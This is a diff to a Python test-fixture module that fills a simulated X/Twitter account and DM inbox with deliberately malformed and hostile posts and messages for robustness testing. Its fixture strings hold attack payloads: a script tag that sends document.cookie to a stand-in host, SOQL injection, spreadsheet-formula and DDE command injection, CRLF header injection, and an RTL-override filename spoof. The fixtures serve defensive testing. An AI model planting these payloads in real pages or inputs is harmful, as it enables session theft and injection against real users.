@@ -135,19 +135,38 @@ USERS: list[tuple[str, bool, str, dict[str, Any]]] = [
 ]
 
 # (what is hostile, deliverable, text, wire overrides, special)
-# special: author=<user index>|unknown|hidden, twice, reply-unknown-post
+# special: "author:<hostile user>", "author=unknown", "author=hidden", "twice",
+# "reply-unknown-post"
 MENTIONS: list[tuple[str, bool, str, dict[str, Any], str]] = [
     ("NUL and control characters in text", True, "{b} help\x00\x08 my account\x1b[2J", {}, ""),
     ("lone surrogate \\ud800 in text", True, "{b} broken \ud800 emoji", {}, ""),
-    ("script tag in text", True, "{b} <script>fetch('//evil.example/'+document.cookie)</script>", {}, ""),
+    (
+        "script tag in text",
+        True,
+        "{b} <script>fetch('//evil.example/'+document.cookie)</script>",
+        {},
+        "",
+    ),
     ("SOQL injection in text", True, "{b} " + SOQL + " OR Id != null", {}, ""),
     ("spreadsheet formula text (HYPERLINK)", True, HYPERLINK + " {b}", {}, ""),
     ("spreadsheet formula text (DDE cmd)", True, CMD + " {b}", {}, ""),
     ("spreadsheet formula text (@SUM)", True, SUM + " {b}", {}, ""),
     ("25,000-character text", True, "{b} " + "pricing? " * 2777, {}, ""),
     ("same tweet id twice in one page", True, "{b} is this thing on?", {}, "twice"),
-    ("created_at in the year 2099", True, "{b} greetings from the future", {"created_at": FUTURE}, ""),
-    ('created_at is "yesterday"', True, "{b} posted yesterday-ish", {"created_at": "yesterday"}, ""),
+    (
+        "created_at in the year 2099",
+        True,
+        "{b} greetings from the future",
+        {"created_at": FUTURE},
+        "",
+    ),
+    (
+        'created_at is "yesterday"',
+        True,
+        "{b} posted yesterday-ish",
+        {"created_at": "yesterday"},
+        "",
+    ),
     (
         "author_id names a user X does not know: absent from includes.users",
         False,
@@ -207,7 +226,13 @@ MENTIONS: list[tuple[str, bool, str, dict[str, Any], str]] = [
         {"edit_history_tweet_ids": "<id>"},
         "",
     ),
-    ("author's name holds a lone surrogate", True, "{b} hello from Ren", {}, "author=14"),
+    (
+        "author's name holds a lone surrogate",
+        True,
+        "{b} hello from Ren",
+        {},
+        "author:lone surrogate in name",
+    ),
     (
         "JSON-looking text with escapes",
         True,
@@ -222,31 +247,94 @@ QUOTES: list[tuple[str, bool, str, dict[str, Any], str]] = [
     ("quote with author_id null", False, "nobody said this", {"author_id": None}, ""),
     ("same quote id twice in one page", True, "quoting twice", {}, "twice"),
     ("lone surrogate in a quote", True, "half a heart \udc9c", {}, ""),
-    ("quote by a user with a script-tag name", True, "nice post", {}, "author=16"),
+    ("quote by a user with a script-tag name", True, "nice post", {}, "author:script tag in name"),
 ]
 
 # (what is hostile, deliverable, text, wire overrides, special, topic)
 DMS: list[tuple[str, bool, str | None, dict[str, Any], str, str]] = [
-    ("NUL and control characters in text", True, "my invoice\x00 is\x1b[0m wrong", {}, "", "support"),
+    (
+        "NUL and control characters in text",
+        True,
+        "my invoice\x00 is\x1b[0m wrong",
+        {},
+        "",
+        "support",
+    ),
     ("lone surrogate \\ud800 in text", True, "app crashes \ud800 on start", {}, "", "support"),
-    ("script tag in text", True, "<script>alert(document.cookie)</script> pricing?", {}, "", "sales"),
+    (
+        "script tag in text",
+        True,
+        "<script>alert(document.cookie)</script> pricing?",
+        {},
+        "",
+        "sales",
+    ),
     ("spreadsheet formula text", True, HYPERLINK, {}, "", "spam"),
     ("SOQL injection in text", True, "refund " + SOQL + " please", {}, "", "support"),
     ("20,000-character text", True, "help " * 4000, {}, "", "support"),
     ("sender_id missing", False, "who sent this?", {"sender_id": ABSENT}, "", "support"),
-    ("sender unknown to X: absent from includes.users", False, "ghost writer", {}, "sender=unknown", "support"),
+    (
+        "sender unknown to X: absent from includes.users",
+        False,
+        "ghost writer",
+        {},
+        "sender=unknown",
+        "support",
+    ),
     ("event id null", False, "no id on this one", {"id": None}, "", "support"),
-    ('created_at is "yesterday"', True, "sent yesterday", {"created_at": "yesterday"}, "", "support"),
+    (
+        'created_at is "yesterday"',
+        True,
+        "sent yesterday",
+        {"created_at": "yesterday"},
+        "",
+        "support",
+    ),
     ("created_at in the year 2099", True, "from the future", {"created_at": FUTURE}, "", "other"),
     ("same event id twice in one page", True, "did this arrive twice?", {}, "twice", "support"),
     ("MessageCreate with text null", True, None, {"text": None}, "", "other"),
-    ("dm_conversation_id missing", True, "which thread?", {"dm_conversation_id": ABSENT}, "", "support"),
-    ("sender's name is a spreadsheet formula", True, "please call me back", {}, "sender=20", "sales"),
-    ("sender has a 100,000-character bio", True, "how much is pro?", {}, "sender=12", "sales"),
-    ("RTL override and zero-width characters", True, "bill\u202efdp.exe\u202c\u200b attached", {}, "", "support"),
+    (
+        "dm_conversation_id missing",
+        True,
+        "which thread?",
+        {"dm_conversation_id": ABSENT},
+        "",
+        "support",
+    ),
+    (
+        "sender's name is a spreadsheet formula",
+        True,
+        "please call me back",
+        {},
+        "sender:spreadsheet formula name (HYPERLINK)",
+        "sales",
+    ),
+    (
+        "sender has a 100,000-character bio",
+        True,
+        "how much is pro?",
+        {},
+        "sender:100,000-character bio",
+        "sales",
+    ),
+    (
+        "RTL override and zero-width characters",
+        True,
+        "bill\u202efdp.exe\u202c\u200b attached",
+        {},
+        "",
+        "support",
+    ),
     ("emoji-only text", True, "😡😡😡", {}, "", "other"),
     ("id is a JSON number, not a string", True, "numeric id", {"id": "<int>"}, "", "support"),
-    ("CRLF header injection in text", True, "hi\r\nSubject: URGENT\r\n\r\nwire money", {}, "", "spam"),
+    (
+        "CRLF header injection in text",
+        True,
+        "hi\r\nSubject: URGENT\r\n\r\nwire money",
+        {},
+        "",
+        "spam",
+    ),
 ]
 
 
@@ -279,7 +367,9 @@ def _resolve(overrides: dict[str, Any], item_id: str) -> dict[str, Any]:
     return resolved
 
 
-def add_hostile(world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | None = None) -> dict[str, int]:
+def add_hostile(
+    world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | None = None
+) -> dict[str, int]:
     """Add every hostile item to the world; returns how many of each kind were added."""
     if anchor_ms is None:
         anchor_ms = (now_ms() // DAY_MS) * DAY_MS
@@ -290,11 +380,11 @@ def add_hostile(world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | Non
         (u for u in world.users.values() if not u.suspended and u.hostile is None),
         key=lambda u: int(u.id),
     )
-    clock = anchor_ms - 2 * DAY_MS
+    clock = anchor_ms - 5 * HOUR_MS  # after the newest brand post, before the anchor
 
     def tick() -> int:
         nonlocal clock
-        clock += rng.randrange(60_000, 20 * 60_000)
+        clock += rng.randrange(20_000, 90_000)
         return clock
 
     users: list[XUser] = []
@@ -325,14 +415,16 @@ def add_hostile(world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | Non
         world.users[uid] = user
         users.append(user)
 
+    by_what = {str(u.hostile): u for u in users}
+
     # Every hostile user likes one of the newest posts: liking_users serves them.
     recent = world.posts[-4:]
-    for n, user in enumerate(users):
+    for user in users:
         post = rng.choice(recent)
         like = Reaction("like", post.id, user.id, tick())
         like.hostile = f"like by a user whose {user.hostile}"
         like.deliverable = user.deliverable
-        if n == 8:  # the emoji-only liker is listed twice in the same page
+        if user.hostile == "emoji-only name":  # listed twice in the same page
             like.hostile = "liker listed twice in one page; " + like.hostile
             like.twice = True
         world.reactions.append(like)
@@ -340,19 +432,15 @@ def add_hostile(world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | Non
     def author(special: str) -> str:
         if special == "author=unknown":
             return ids.next(tick())  # an id no endpoint resolves
-        if special.startswith("author="):
-            tail = special.split("=", 1)[1]
-            if tail.isdigit():
-                return users[int(tail)].id
+        if special.startswith("author:"):
+            return by_what[special.split(":", 1)[1]].id
         return rng.choice(normal).id
 
-    def add_tweets(
-        items: list[tuple[str, bool, str, dict[str, Any], str]], kind: str
-    ) -> int:
+    def add_tweets(items: list[tuple[str, bool, str, dict[str, Any], str]], kind: str) -> int:
         for what, deliverable, text, overrides, special in items:
             ms = tick()
             tid = ids.next(ms)
-            body = text.format(b=f"@{brand.username}")
+            body = text.replace("{b}", f"@{brand.username}")
             tweet = XTweet(tid, body, author(special), ms, "en", tid, kind)
             if kind == "quote":
                 tweet.post_id = world.posts[-1].id
@@ -375,8 +463,8 @@ def add_hostile(world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | Non
         sender = rng.choice(normal).id
         if special == "sender=unknown":
             sender = ids.next(ms)
-        elif special.startswith("sender="):
-            sender = users[int(special.split("=", 1)[1])].id
+        elif special.startswith("sender:"):
+            sender = by_what[special.split(":", 1)[1]].id
         event_id = ids.next(ms)
         event = DMEvent(
             id=event_id,
